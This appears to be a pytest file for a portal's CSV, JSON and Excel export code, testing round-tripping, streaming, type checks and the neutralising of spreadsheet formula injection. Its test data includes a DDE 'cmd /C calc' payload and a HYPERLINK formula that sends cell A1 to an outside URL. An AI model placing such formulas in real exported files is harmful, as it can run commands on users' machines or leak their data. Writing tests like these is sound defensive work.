"""Tables that leave the portal: read back the same by other programs, and never run by one."""

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from uuid import UUID

import openpyxl
import pytest
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st

from core import exporting
from core.exporting import ExportError, Sheet, as_text_cell, stream_csv, stream_json, write_xlsx

MOMENT = datetime(2025, 12, 31, 16, 30, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://example.org/?"&A1,"点我")'
texts = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"))


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "dangerous",
    [
        HYPERLINK,
        "=1+1",
        "+8613800000000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tx",
        " =1+1",
        "\u3000=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x00=1+1",
        "＝1+1",
        "＋1",
        "－1+1",
        "＠SUM(1)",
        "-",
        "--1",
        "-1.",
        "-１",
    ],
)
def test_what_a_spreadsheet_might_run_comes_out_as_text(dangerous: str) -> None:
    assert as_text_cell(dangerous).startswith("'")
    assert as_text_cell(dangerous)[1:] == dangerous.replace("\x00", "")
    assert _read_csv(b"".join(stream_csv(["列"], [[dangerous]])))[1][0].startswith("'")


@pytest.mark.parametrize("harmless", ["", "示例公司", "-5.00", "-12", "5.00", "a=b", "甲+乙", "'=1", "1-2", "䶮𬭎"])
def test_what_it_would_not_run_is_left_alone(harmless: str) -> None:
    assert as_text_cell(harmless) == harmless


@given(st.text())
def test_no_cell_begins_like_a_formula(text: str) -> None:
    cell = as_text_cell(text).lstrip()
    assert not cell.startswith(("=", "+", "@", "＝", "＋", "－", "＠"))
    assert not cell.startswith("-") or Decimal(cell) <= 0
    assert as_text_cell(as_text_cell(text)) == as_text_cell(text)
    cell.encode()


def test_a_csv_file_has_a_mark_crlf_and_each_kind_of_value_in_one_form() -> None:
    row = ['示例，“甲”"乙"', Decimal("1234.50"), Decimal("1E+3"), -7, date(2026, 1, 1), MOMENT, None, True, UUID(int=5)]
    data = b"".join(stream_csv([str(number) for number in range(9)], [[*row], [gettext_lazy("金额")] * 9]))
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 3
    assert _read_csv(data)[1] == [
        "示例，“甲”\"乙\"", "1234.50", "1000", "-7", "2026-01-01", "2026-01-01T00:30:00+08:00", "", "true",
        "00000000-0000-0000-0000-000000000005",
    ]  # fmt: skip
    assert _read_csv(data)[2] == ["金额"] * 9


def test_a_table_without_rows_is_its_header() -> None:
    assert b"".join(stream_csv(["编号", "金额"], [])) == b"\xef\xbb\xbf" + '"编号","金额"\r\n'.encode()
    assert json.loads(b"".join(stream_json([]))) == []


@given(st.lists(st.lists(texts, min_size=3, max_size=3)))
def test_a_csv_file_reads_back_to_the_same_cells(rows: list[list[str]]) -> None:
    data = b"".join(stream_csv(["甲", "乙", "丙"], rows))
    assert _read_csv(data)[1:] == [[as_text_cell(cell) for cell in row] for row in rows]


@given(st.lists(st.dictionaries(texts, texts | st.none() | st.booleans() | st.integers())))
def test_a_json_stream_is_valid_json_of_the_same_rows(rows: list[dict[str, Any]]) -> None:
    assert json.loads(b"".join(stream_json(rows))) == rows


def test_json_keeps_the_places_of_amounts_and_the_zone_of_moments() -> None:
    row = {"amount": Decimal("1234.50"), "big": Decimal("1E+3"), "on": date(2026, 1, 1), "at": MOMENT, "id": UUID(int=5), "label": gettext_lazy("金额"), "goods": [None]}  # fmt: skip # noqa: E501
    assert json.loads(b"".join(stream_json([row]))) == [
        {
            "amount": "1234.50",
            "big": "1000",
            "on": "2026-01-01",
            "at": "2026-01-01T00:30:00+08:00",
            "id": "00000000-0000-0000-0000-000000000005",
            "label": "金额",
            "goods": [None],
        }
    ]


def test_json_holds_text_that_utf_8_cannot_without_breaking() -> None:
    assert json.loads(b"".join(stream_json([{"a": "x\ud800y\u2028\x00"}]))) == [{"a": "xy\u2028\x00"}]


def test_an_error_among_the_rows_never_leaves_a_file_that_looks_whole() -> None:
    def rows() -> Iterator[dict[str, int]]:
        yield from ({"n": number} for number in range(20_000))
        raise KeyError("lost connection")

    received: list[bytes] = []
    with pytest.raises(KeyError):
        received.extend(stream_json(rows()))
    with pytest.raises(ValueError, match="Expecting"):
        json.loads(b"".join(received))


@pytest.mark.parametrize("wrong", [1.5, b"x", datetime(2026, 1, 1), object()])  # noqa: DTZ001 a naive one is the subject
def test_a_value_of_another_type_is_refused(wrong: Any, tmp_path: Path) -> None:
    with pytest.raises(TypeError):
        b"".join(stream_csv(["甲"], [[wrong]]))
    with pytest.raises(TypeError):
        write_xlsx(tmp_path / "x.xlsx", [Sheet("表", ["甲"], [[wrong]])])
    if not isinstance(wrong, float):
        with pytest.raises(TypeError):
            b"".join(stream_json([{"a": wrong}]))


def test_json_has_no_nan() -> None:
    with pytest.raises(ValueError, match="JSON"):
        b"".join(stream_json([{"a": float("nan")}]))


def test_a_row_of_another_length_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="3 cells"):
        b"".join(stream_csv(["甲", "乙"], [["1", "2", "3"]]))
    with pytest.raises(ValueError, match="1 cells"):
        write_xlsx(tmp_path / "x.xlsx", [Sheet("表", ["甲", "乙"], [["1"]])])


def test_streams_come_in_blocks_and_hold_no_more_than_one() -> None:
    def rows(count: int) -> Iterator[list[str]]:
        return (["示例公司", str(number)] for number in range(count))

    blocks = list(stream_csv(["甲", "乙"], rows(20_000)))
    assert 3 < len(blocks) < 40
    assert len(_read_csv(b"".join(blocks))) == 20_001
    json_blocks = list(stream_json({"n": number, "name": "示例公司"} for number in range(20_000)))
    assert 3 < len(json_blocks) < 40
    assert len(json.loads(b"".join(json_blocks))) == 20_000
    tracemalloc.start()
    for _ in stream_csv(["甲", "乙"], rows(100_000)):
        pass
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 2_000_000


def _written(path: Path, *sheets: Sheet) -> Any:
    write_xlsx(path, sheets)
    return openpyxl.load_workbook(path)


def test_a_workbook_holds_numbers_days_and_texts_and_no_formula(tmp_path: Path) -> None:
    row = ["示例公司", Decimal("1234567.80"), 12, date(2026, 1, 1), MOMENT, None, HYPERLINK, "#N/A", "𬭎\x0b"]
    book = _written(
        tmp_path / "out.xlsx",
        Sheet("明细", [f"列{number}" for number in range(9)], [row]),
        Sheet("合计", ["甲"], iter([[Decimal("-0.10")]])),
    )
    assert book.sheetnames == ["明细", "合计"]
    detail = book["明细"]
    assert detail.freeze_panes == "A2"
    cells = list(detail[2])
    assert [str(cell.value) for cell in cells] == [
        *("示例公司", "1234567.8", "12", "2026-01-01 00:00:00", "2026-01-01 00:30:00", "None"),
        *("'" + HYPERLINK, "#N/A", "𬭎"),
    ]
    assert [cell.data_type for cell in cells] == ["s", "n", "n", "d", "d", "n", "s", "s", "s"]
    assert cells[1].number_format == "#,##0.00"
    assert book["合计"]["A2"].value == -0.1


def test_a_number_of_more_digits_than_excel_keeps_is_written_as_text(tmp_path: Path) -> None:
    row = [10**15 - 1, 330106202600001234, Decimal("1234567890123456.78"), Decimal("999999999999.99")]
    book = _written(tmp_path / "out.xlsx", Sheet("表", ["甲", "乙", "丙", "丁"], [row]))
    assert [cell.value for cell in book["表"][2]] == [
        10**15 - 1,
        "330106202600001234",
        "1234567890123456.78",
        999999999999.99,
    ]


def test_what_excel_cannot_hold_is_refused_with_a_way_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "out.xlsx"
    with pytest.raises(ExportError, match="CSV") as refused:
        write_xlsx(path, [Sheet("表", ["甲"], [["长" * 32_768]])])
    assert refused.value.code == "cell_too_long"
    # A million rows would take a minute to write: the limit is lowered, the counting is the same.
    monkeypatch.setattr(exporting, "XLSX_ROWS", 3)
    write_xlsx(path, [Sheet("表", ["甲"], [["1"], ["2"]])])
    path.unlink()
    with pytest.raises(ExportError, match="CSV") as refused:
        write_xlsx(path, [Sheet("表", ["甲"], [["1"], ["2"], ["3"]])])
    assert refused.value.code == "sheet_too_long"
    assert not path.exists()


@pytest.mark.parametrize("title", ["", "长" * 32, "a/b", "a:b", "[a]", "'a"])
def test_a_title_that_excel_refuses_is_refused(title: str, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="title"):
        write_xlsx(tmp_path / "x.xlsx", [Sheet(title, ["甲"], [])])


def test_a_workbook_has_a_sheet(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="one sheet"):
        write_xlsx(tmp_path / "x.xlsx", [])
